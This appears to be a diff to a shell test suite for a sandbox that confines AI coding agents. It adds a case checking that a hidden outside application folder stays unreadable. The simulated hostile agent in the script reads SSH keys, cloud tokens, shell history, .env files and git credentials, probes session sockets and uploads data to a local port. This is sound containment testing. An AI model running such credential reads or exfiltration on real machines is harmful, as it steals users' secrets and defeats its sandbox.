@@ -24,7 +24,10 @@ set -u
 cd "$work"
 hostile_need_sandbox
 M=7$((RANDOM % 900 + 100))$$ # the slow agent's marker: sleep ${M}.N
-trap 'pkill -KILL -f "sleep ${M}\." 2>/dev/null; [ "$failed" -eq 0 ] && rm -rf "$work"' EXIT
+# Another application's folder outside the home and /tmp (which the sandbox replaces): visible as the
+# user sees it unless isolation.hide names it.
+OTHER_APP=$(mktemp -d /var/tmp/sidecar-other-app-XXXXXX) && export OTHER_APP
+trap 'pkill -KILL -f "sleep ${M}\." 2>/dev/null; rm -rf "$OTHER_APP"; [ "$failed" -eq 0 ] && rm -rf "$work"' EXIT
 
 export HOME=$work/home
 mkdir -p "$HOME" && git config --global user.email t@example.com && git config --global user.name T
@@ -61,7 +64,7 @@ try: urllib.request.urlopen("https://127.0.0.2:%s/upload" % sys.argv[1], data=b"
 except Exception as e: print("upload:", type(e).__name__)' "$UPLOAD_PORT" ;;
   home) # what of the user's home and session the agent can reach
     for f in "$HOME/.ssh/id_ed25519" "$HOME/dotfiles/ssh/id_ed25519" "$HOME/.config/doctl/config.yaml" \
-      "$HOME/.local/share/fish/fish_history" "$HOME/other/.env"; do cat "$f" 2>/dev/null; done
+      "$HOME/.local/share/fish/fish_history" "$HOME/other/.env" "$OTHER_APP/.env"; do cat "$f" 2>/dev/null; done
     for sock in "$HOME/.1password/agent.sock" "$HOME/.colima/default/docker.sock" "${SSH_AUTH_SOCK:-/nonexistent}" \
       "$MAIN/run/dev.sock"; do
       python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("REACHED", sys.argv[1])' \
@@ -95,7 +98,8 @@ echo "agent $EVIL: exit $?"
 SH
 chmod +x "$work/agent.sh"
 add_runners "    evil = { command = $(lua_list "$work/agent.sh") },"
-sandbox_allow env EVIL MAIN ESC_MARK PLANT PWNED UPLOAD_PORT # the agent's orders, given by name
+sandbox_allow env EVIL MAIN ESC_MARK PLANT PWNED UPLOAD_PORT OTHER_APP # the agent's orders, given by name
+sandbox_allow hide "$OTHER_APP" # see OTHER_APP above
 sed -i 's|^  worktree = {|  worktree = {\n    setup = "sh scripts/bootstrap.sh",|' .agent/config.lua
 grep -q 'setup = "sh scripts/bootstrap.sh"' .agent/config.lua || echo "  -- (no worktree table in the config)" >&2
 "$S" task create --title "hostile" --status ready >/dev/null
@@ -197,6 +201,7 @@ ln -s dotfiles/ssh "$HOME/.ssh" # a stowed ~/.ssh
 echo "access-token: $secret" >"$HOME/.config/doctl/config.yaml"
 echo "- cmd: export TOKEN=$secret" >"$HOME/.local/share/fish/fish_history"
 echo "DATABASE_URL=postgres://u:$secret@db/x" >"$HOME/other/.env"
+echo "other application: OTHERAPP-$RANDOM" >"$OTHER_APP/.env"
 printf '#!/bin/sh\necho TOOLCHAIN-OK\n' >"$HOME/.local/bin/mytool" && chmod +x "$HOME/.local/bin/mytool"
 printf '[credential]\n\thelper = store\n[url "https://u:%s@git.example/"]\n\tinsteadOf = https://git.example/\n' \
   "$secret" >>"$HOME/.gitconfig"
@@ -218,7 +223,7 @@ EVIL=home SSH_AUTH_SOCK=$HOME/.1password/agent.sock DOCKER_HOST=unix://$HOME/.co
 id=$(run_ids "$work/home.out" | head -n 1)
 kill "${socks[@]}" 2>/dev/null
 out=".agent/runs/$id/stdout.log"
-for what in "ssh key through a link:$secret" "a socket of the session or the repository:REACHED" \
+for what in "ssh key through a link:$secret" "another application's .env (isolation.hide):OTHERAPP-" "a socket of the session or the repository:REACHED" \
   "session variables:PASSED" "secrets in variables of other names:SECRETVAR" \
   "git credentials:GIT credential" "a token in a git URL:GIT url.https://u:" "a section of a token:insteadof"; do
   if [ ! -f "$out" ]; then hostile_case "home: ${what%%:*}" silent "the agent did not run: $(head -3 "$work/home.out")"
